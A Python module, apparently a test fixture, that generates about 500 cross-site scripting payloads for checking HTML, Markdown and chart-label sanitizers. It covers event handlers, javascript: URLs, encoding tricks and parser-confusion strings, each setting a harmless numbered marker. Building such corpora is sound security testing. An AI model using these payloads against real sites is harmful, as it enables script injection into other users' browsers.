"""500 texts that run a script, or ask the network, where somebody writes them down as they are.

They are a table: what runs, in each way out of the place where a text stands, in each spelling. Each runs ``top.fired = <its own
number>``, so that a page can tell which one ran; a number needs no quotes.
"""

from __future__ import annotations

import base64
import html
import json
import re
from itertools import product
from typing import TYPE_CHECKING, Final
from urllib.parse import quote

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Mapping

JS: Final = "top.fired=0"
"""What runs; the 0 becomes the number of the text."""

AWAY: Final = "http://example.invalid/0"


def _base64(number: int) -> str:
    return base64.b64encode(f"<script>top.fired={number}</script>".encode()).decode()


WRITTEN: Final[tuple[Callable[[int], str], ...]] = (
    "top.fired={}".format,
    "top%2efired%3d{}".format,
    "http://example.invalid/{}".format,
    _base64,
)
"""In which ways a text holds its number, before it is spelled."""

TAGS: Final = (
    f"<script>{JS}</script>",
    f"<script/x>{JS}</script\n>",
    f"<script type=module>{JS}</script>",
    f'<script src="data:text/javascript,{JS}"></script>',
    f"<script>{JS}",
    f"<svg><script>{JS}</script></svg>",
    f'<svg><script href="data:text/javascript,{JS}"/></svg>',
    f"<img src=x onerror={JS}>",
    f"<img src=x onerror='{JS}'>",
    f'<img src="x" onerror="{JS}"/>',
    f"<img src=x onerror=`{JS}`>",
    f"<img/src=x/onerror={JS}>",
    f"<img\nsrc=x\nonerror\n=\n{JS}\n>",
    f"<img\x0csrc=x\x0conerror={JS}>",
    f"<IMG SRC=x ONERROR={JS}>",
    f"<img src=x onerror={JS} ",
    f"<img src=x onerror={JS}//",
    f"<img src=x:x onerror=eval(`{JS}`)>",
    f"<image src=x onerror={JS}>",
    f"<img srcset=x onerror={JS}>",
    f"<picture><source srcset=x><img onerror={JS}></picture>",
    f'<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload={JS}>',
    f"<svg onload={JS}>",
    f"<svg/onload={JS}>",
    f"<svg><g onload={JS}></g></svg>",
    f"<svg><image href=x onerror={JS}></svg>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f"<svg><set onbegin={JS} attributeName=x to=1 dur=1s></svg>",
    f"<svg><animate attributeName=href values=javascript:{JS} /><a><text y=9>x</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={JS}></foreignObject></svg>",
    f"<svg><style onload={JS}></style></svg>",
    f"<body onload={JS}>",
    f"<body onpageshow={JS}>",
    f"<iframe src=javascript:{JS}></iframe>",
    f'<iframe srcdoc="<script>{JS}</script>"></iframe>',
    f"<iframe srcdoc='<img src=x onerror={JS}>'>",
    f"<iframe onload={JS}></iframe>",
    f"<object data=javascript:{JS}></object>",
    f"<object data=x onerror={JS}></object>",
    f"<embed src=javascript:{JS}>",
    f"<video src=x onerror={JS}></video>",
    f"<video><source onerror={JS}></video>",
    f"<audio src=x onerror={JS}></audio>",
    f"<track src=x onerror={JS}>",
    f"<link rel=stylesheet href=data:text/css, onload={JS}>",
    f"<style onload={JS}></style>",
    f"<details open ontoggle={JS}>x</details>",
    f"<input autofocus onfocus={JS}>",
    f"<select autofocus onfocus={JS}></select>",
    f"<textarea autofocus onfocus={JS}></textarea>",
    f"<button autofocus onfocus={JS}>x</button>",
    f"<p tabindex=0 onfocus={JS} contenteditable>x</p>",
    f"<b onmouseover={JS}>hover</b>",
    f"<b onclick={JS}>click</b>",
    f"<div onpointerover={JS}>point</div>",
    f"<b style='animation:sk 1s' onanimationstart={JS}>x</b><style>@keyframes sk{{}}</style>",
    f"<marquee onstart={JS}>x</marquee>",
    f"<div><template shadowrootmode=open><img src=x onerror={JS}></template></div>",
    f"<meta http-equiv=refresh content='0;url=javascript:{JS}'>",
    f"<form action=javascript:{JS}><input type=submit value=click></form>",
    f"<button form=x formaction=javascript:{JS}>click</button><form id=x></form>",
    f"<math><mtext><img src=x onerror={JS}></mtext></math>",
)

# each of these runs by itself; the ways out and the spellings are multiplied with them
SHORT: Final = (
    f"<script>{JS}</script>",
    f"<img src=x onerror={JS}>",
    f"<svg/onload={JS}>",
    f"<iframe srcdoc='<img src=x onerror={JS}>'>",
    f"<details open ontoggle={JS}>x</details>",
)

WAYS_OUT: Final = (
    '">',
    "'>",
    "`>",
    ">",
    "'\">",
    '"/>',
    "-->",
    "--!>",
    "<!--><",
    "]]>",
    "<![CDATA[",
    "</script>",
    "</style>",
    "</textarea>",
    "</title>",
    "</noscript>",
    "</template>",
    "</iframe>",
    "</select>",
    "</svg>",
    "</pre></code>",
    "</td></tr></table>",
    "</caption></table>",
    "</summary></details>",
    "</option></datalist>",
    "\n\n",
)


def _in_tags(change: Callable[[str], str]) -> Callable[[str], str]:
    return lambda text: re.sub(r"(?<=<)/?\w+", lambda found: change(found[0]), text)


def _as_utf_7(text: str) -> str:
    return "".join(f"+{base64.b64encode(c.encode('utf-16-be')).decode().rstrip('=')}-" if c in "<>" else c for c in text)


SPELLINGS: Final[Mapping[str, Callable[[str], str]]] = {
    "escaped": html.escape,
    "escaped twice": lambda text: html.escape(html.escape(text)),
    "decimal": lambda text: "".join(f"&#{ord(c)};" for c in text),
    "hexadecimal, unended": lambda text: "".join(f"&#x{ord(c):x}" for c in text),
    "padded": lambda text: "".join(f"&#{ord(c):07}" for c in text),
    "percent": quote,
    "JavaScript": lambda text: text.replace("<", "\\x3c").replace(">", "\\x3e"),
    "JSON": lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    "JSON text": json.dumps,
    "full width": lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    "angles": lambda text: text.replace("<", "\u2039").replace(">", "\u203a"),
    "overlong": lambda text: text.replace("<", "\xc0\xbc"),
    "UTF-7": _as_utf_7,
    "mixed case": _in_tags(str.swapcase),
    "NUL in the tag": _in_tags(lambda tag: f"{tag[:2]}\0{tag[2:]}"),
    "NUL before": lambda text: f"\0{text}".replace("<", "<\0", 1),
    "half before": lambda text: f"\ud800{text}",
    "half within": lambda text: text.replace(">", ">\udfff", 1),
    "line separator": lambda text: f"x\u2028{text}\u2029",
    "right to left": lambda text: f"\u202e{text}\u200f",
    "byte order mark": lambda text: f"\ufeff{text}\ufffe",
    "no width": lambda text: f"\u200b\u200d{text}",
    "soft hyphen": _in_tags(lambda tag: f"{tag}\u00ad"),
}

ADDRESSES: Final = (
    f"javascript:{JS}",
    f"JaVaScRiPt:{JS}",
    f"java\tscript:{JS}",
    f"java\nscript:{JS}",
    f"\x01javascript:{JS}",
    f"  javascript:{JS}",
    f"javascript&colon;{JS}",
    f"&#106;avascript:{JS}",
    f"java&Tab;script&#x3a;{JS}",
    f"javascript://example.invalid/%0a{JS}",
    "javascript:top%2efired%3d0",
    f"data:text/html,<script>{JS}</script>",
    f"data:text/html;base64,{_base64(0)}",
    f"vbscript:{JS}",
)
CARRIERS: Final = (
    '<a href="{}">click</a>',
    "<a href='{}' target=_self>click</a>",
    "<svg><a xlink:href='{}'><text y=9>click</text></a></svg>",
    "<math href='{}'>click</math>",
    "<iframe src='{}'></iframe>",
    "[click]({})",
    "![click]({})",
)

EVENTS: Final = (
    f"autofocus onfocus={JS} tabindex=0",
    f"onmouseover={JS}",
    f"onclick={JS}",
    f"style=background:url({AWAY})",
    f"onerror={JS} src=x",
    f"ontoggle={JS} open",
)
QUOTES: Final = ('"', "'", "`", "&quot;")

SCRIPTS: Final = (
    f"';{JS};'",
    f'";{JS};"',
    f"`;{JS};`",
    f"${{{JS}}}",
    f"\\';{JS}//",
    f'\\";{JS}//',
    f"\\u0027;{JS}//",
    f"*/{JS}/*",
    f"\u2028{JS}\u2028",
    f"');{JS};('",
    f'"}}}});{JS};({{"x":"',
    f'{{"__proto__":{{"innerHTML":"<img src=x onerror={JS}>"}}}}',
    f"</script><script>{JS}</script><script>",
    f"<!--<script>{JS}</script>",
    f"{{{{constructor.constructor('{JS}')()}}}}",
    f"{{scripts}}{{title}}%s<img src=x onerror={JS}>",
)
PLOTLY: Final = (
    f"<a href='javascript:{JS}' target='_top'>click</a>",
    f'<a href="javascript&#58;{JS}">click</a>',
    f'<a href="data:text/html,<script>{JS}</script>" target="_self">click</a>',
    f'<a href="#" onclick="{JS}">click</a>',
    f'<a href="x" style="background:url({AWAY})" popup="width=1,height=1">click</a>',
    f'<b onclick="{JS}">click</b>',
    f'<span style="fill:url({AWAY})" onmouseover="{JS}">hover</span>',
    f'<sub onload="{JS}">x</sub><sup onbegin="{JS}">x</sup>',
    f'<br onload="{JS}"/><em>x</em>',
    f"%{{customdata}}<extra><img src=x onerror={JS}></extra>",
    f'%{{x:<a href="javascript:{JS}">}}%{{y}}',
    f'&lt;a href="javascript:{JS}"&gt;click&lt;/a&gt;',
    f"$\\href{{javascript:{JS}}}{{click}}$",
)
MARKDOWN: Final = (
    f'![x](x" onerror="{JS})',
    f'[click](x "x" onclick={JS})',
    f"[click][x]\n\n[x]: javascript:{JS}",
    f"<javascript:{JS}>",
    f"![x][x]\n\n[x]: {AWAY}",
    f"```\n</code></pre><img src=x onerror={JS}>",
    f"```html <img src=x onerror={JS}>",
    f"`<img src=x onerror={JS}>",
    f"    <img src=x onerror={JS}>",
    f"|x|\n|-|\n|<img src=x onerror={JS}>|",
    f"\\<img src=x onerror={JS}\\>",
    f"\\\\(\\href{{javascript:{JS}}}{{click}}\\\\)",
    f"$$\\unicode{{<img src=x onerror={JS}>}}$$",
    f"$</span><img src=x onerror={JS}>$",
    f"[click](x)<img src=x onerror={JS}>{{: onclick={JS}}}",
)
CONFUSED: Final = (
    f'<noscript><p title="</noscript><img src=x onerror={JS}>">',
    f'<svg></p><style><a id="</style><img src=x onerror={JS}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={JS}&gt;">',
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={JS} src=x>'>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={JS}></annotation-xml></math>",
    f"<svg><title><img src=x onerror={JS}></title></svg>",
    f"<svg><desc><style><img src=x onerror={JS}></style></desc></svg>",
    f"<select><option><style></option></select><img src=x onerror={JS}></style>",
    f'<xmp><p title="</xmp><img src=x onerror={JS}>">',
    f"<listing>&lt;img src=x onerror={JS}&gt;</listing>",
    f'<textarea><p title="</textarea><img src=x onerror={JS}>">',
    f"<table><td><svg><style>*{{}}</td></style></svg><img src=x onerror={JS}></table>",
    f"<a title='`<img src=x onerror={JS}>`' />",
    f"<p id='x\"><img src=x onerror={JS}>'>",
    f"<plaintext><img src=x onerror={JS}>",
)
STYLES: Final = (
    f"<style>*{{background:url(javascript:{JS})}}</style>",
    f"<style>@import '{AWAY}';</style>",
    f"<style>*{{background:url({AWAY})}}</style>",
    f"<link rel=stylesheet href={AWAY}>",
    f'<p style="background:url({AWAY})">x</p>',
    f'<p style="background:\\75\\72\\6c({AWAY})">x</p>',
    f'<p style="width:expression({JS})">x</p>',
    f'<p style="-moz-binding:url({AWAY});behavior:url({AWAY})">x</p>',
    f"<p style=\"list-style:image-set('{AWAY}' 1x)\">x</p>",
    f'<p style="color:red;}}</style><img src=x onerror={JS}>">x</p>',
    f"<img src={AWAY}>",
    f"<base href={AWAY}><img src=x>",
)


def _table() -> Iterator[tuple[str, Callable[[str], str]]]:
    """Yield each text with 0 for its number, and how it is spelled."""
    yield from ((tag, str) for tag in TAGS)
    yield from ((f"{way}{tag}", str) for way, tag in product(WAYS_OUT, SHORT))
    yield from ((tag, spell) for spell, tag in product(SPELLINGS.values(), SHORT))
    yield from ((carrier.format(address), str) for carrier, address in product(CARRIERS, ADDRESSES))
    yield from ((f"x{mark} {event} x={mark}", str) for mark, event in product(QUOTES, EVENTS))
    for some in (SCRIPTS, PLOTLY, MARKDOWN, CONFUSED, STYLES):
        yield from ((text, str) for text in some)


def _numbered(text: str, number: int) -> str:
    for written in WRITTEN:
        text = text.replace(written(0), written(number))
    return text


HOSTILE: Final = tuple(spell(_numbered(text, number)) for number, (text, spell) in enumerate(_table(), 1))
